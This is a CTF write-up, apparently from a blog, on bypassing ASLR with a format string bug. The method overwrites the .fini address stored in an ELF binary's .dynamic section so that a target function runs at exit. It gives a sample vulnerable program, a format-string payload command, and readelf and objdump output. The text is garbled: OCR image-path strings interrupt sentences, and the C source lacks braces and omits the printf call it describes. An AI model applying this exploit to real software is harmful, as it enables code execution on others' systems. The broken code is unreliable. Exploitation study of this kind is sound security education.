Bypassing ASLR: Overwriting The .dynamic Section

I was recently confronted with a software exploit challenge on a CTF website that took me much more time to flag that I would have expected at first. The solution was closed to another one I knew but which was not working. I will provide a quick write-up of this method because I still cannot find any mention of it in any paper online, despite its simplicity. I hope it will help someone save some precious brain cycles.

Source code

I do not want to spoil that website’s challenge so I will present a different source code:#include <stdio.h>
#include <string.h>

void flag(void)
    puts("You win!");

int main(int argc, char *argv[])
    char buffer[100];

    if (argc < 2)
        return -1;

    strncpy(buffer, argv[1], sizeof(buffer) - 1);


    return 0;

We are obviously facing a format string vulnerability and what we want to do is calling the flag function.

We could overwrite the saved return value in the main‘s stack frame. As ASLR is on, we are only allowed a single write with something like (N being the relevant offset to reach saved EIP):

user@host:~$ ./binary JUNK%1234x%N\$n

I mean that we cannot use the well-known method of %hhn (or %hn) to write the 4-bytes-long address of flag one after another. And the address is as always a way too high hexadecimal value so we cannot write it in one go. But anyway, that is not an issue here since we only need to overwrite the two least significant bytes due to address proximity between code segment’s objects. This is too easy but it works.

Another classic way of dealing with this kind of challenge is rewriting the .dtors ELF section (see here if you don’t know about it). But for a reason I still ignore, that was not working on that platform.

Solution: the .dynamic ELF section

When I asked about that on IRC, someone told me that whatever the problem was with .dtors, there wasanother ELF section that was working for him. So I kept looking for writable ELF sections in that binary and tried to overwrite them.

user@host:~$ readelf -S binary | grep WA
  [18] .ctors            PROGBITS        0804967c 00067c 000008 00  WA  0   0  4
  [19] .dtors            PROGBITS        08049684 000684 000008 00  WA  0   0  4
  [20] .jcr              PROGBITS        0804968c 00068c 000004 00  WA  0   0  4
  [21] .dynamic          DYNAMIC         08049690 000690 0000d0 08  WA  7   0  4
  [22] .got              PROGBITS        08049760 000760 000004 04  WA  0   0  4
  [23] .got.plt          PROGBITS        08049764 000764 000028 04  WA  0   0  4
  [24] .data             PROGBITS        0804978c 00078c 000008 00  WA  0   0  4
  [25] .bss              NOBITS          08049794 000794 000008 00  WA  0   0  4

Overwriting the GOT is another classic trick but this is not useful in our case since no library function is called after the vulnerable call to printf. The only interesting section remaining is .dynamic. This section holds dynamic linking information.

user@host:~$ objdump -s -j .dynamic binary

binary:     file format elf32-i386

Contents of section .dynamic:8049690 01000000 10000000 0c000000 48830408  ............H...
 80496a0 0d000000 2c860408 04000000 6c810408  ....,.......l...
 80496b0 f5feff6f a4810408 05000000 54820408  ...o........T...
 80496c0 06000000 c4810408 0a000000 71000000  ............q...
 80496d0 0b000000 10000000 15000000 00000000  ................
 80496e0 03000000 64970408 02000000 38000000  ....d.......8...
 80496f0 14000000 11000000 17000000 10830408  ................
 8049700 11000000 08830408 12000000 08000000  ................
 8049710 13000000 08000000 feffff6f d8820408  ...........o....
 8049720 ffffff6f 01000000 f0ffff6f c6820408  ...o.......o....
 8049730 00000000 00000000 00000000 00000000  ................
 8049740 00000000 00000000 00000000 00000000  ................
 8049750 00000000 00000000 00000000 00000000  ................

If you open GDB and try to find out where all those little endian addresses are pointing to, you will find interesting things like the GOT address or,most importantly, the address of the .fini section(0x0804862c) at 0x080496a4. The address of that section is registered in the .dynamic section so that the linker can make the program run codefrom that section when it exits. That’s all we were asking for. Replace this address by the flag function address using classic %hn format string trick, and you will see a nice You win! on your screen.

As I said at the beginning, this is not much. But that makesan alternative to the .dtorsoverwriting method when needed.